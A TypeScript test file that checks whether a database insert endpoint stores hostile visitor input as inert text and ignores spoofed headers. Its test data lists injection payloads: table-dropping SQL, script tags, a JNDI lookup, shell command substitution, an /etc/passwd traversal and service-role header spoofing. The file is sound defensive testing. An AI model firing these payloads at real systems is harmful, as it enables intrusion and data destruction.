/** What a stranger may write, because a visitor might: it is stored as it was sent, as text, and does nothing else. */
import { expect, test } from 'vitest'
import { expectNoLeak, insert, JSON_TYPE, storedQuotes, TABLE } from '../../support/hostile/requests.ts'
import { asVisitor } from '../../support/stack/local-stack.ts'
import { aRow } from '../../support/builders/soft-quote-rows.ts'

const only = async (id: unknown) => (await storedQuotes()).filter((row) => row['id'] === id)

test.each<[name: string, text: string]>([
  ['SQL', `'); drop table public.soft_quotes; --`],
  ['a script', '<script>alert(1)</script>'],
  ['a picture that runs', '<img src=x onerror=alert(1)>'],
  ['a formula', '=HYPERLINK("https://example.com","open")'],
  ['a template', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}'],
  ['a look-up', '${jndi:ldap://example.com/a}'],
  ['a command', '$(touch x); `touch x` | sh'],
  ['a path', '../../../../etc/passwd'],
  ['text that turns round', '\u202egnp.eciovni'],
  ['placeholders', '%s %n $1 ? :id'],
  ['JSON', '{"role":"service_role"}'],
])('%s is stored as text', async (_name, text) => {
  const row = aRow({ full_name: text, business_name: text, square_footage: text, notes: text })
  const before = (await storedQuotes()).length
  const answer = await insert(row)
  expectNoLeak(answer)
  expect({ status: answer.status, text: answer.text }).toEqual({ status: 201, text: '' })
  expect(await only(row['id'])).toEqual([expect.objectContaining(row)])
  expect(await storedQuotes()).toHaveLength(before + 1)
})

test.each<[column: string, value: string]>([
  ['reference', 'HACKED00'],
  ['created_at', '2001-01-01T00:00:00Z'],
])('what is sent for the server’s own %s is not kept', async (column, value) => {
  const row = aRow({ [column]: value })
  // Refused on a hosted project: see tests/postgres.
  expect((await insert(row)).status).toBe(201)
  const [stored] = await only(row['id'])
  expect(stored).toBeDefined()
  expect(String(stored?.[column])).not.toContain(value.slice(0, 8))
})

test.each<[name: string, headers: Record<string, string>]>([
  ['another method', { 'x-http-method-override': 'DELETE' }],
  ['another role', { role: 'service_role', 'x-role': 'service_role' }],
  ['another host', { 'x-forwarded-host': 'evil.example', forwarded: 'host=evil.example' }],
  ['another sender', { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' }],
  ['no commit', { prefer: 'tx=rollback' }],
])('a header that asks for %s changes nothing about the insert', async (_name, headers) => {
  const row = aRow()
  const call = { method: 'POST', headers: { ...JSON_TYPE, ...headers }, body: JSON.stringify(row) }
  expect((await asVisitor(TABLE, call)).status).toBe(201)
  expect(await only(row['id'])).toEqual([expect.objectContaining(row)])
})
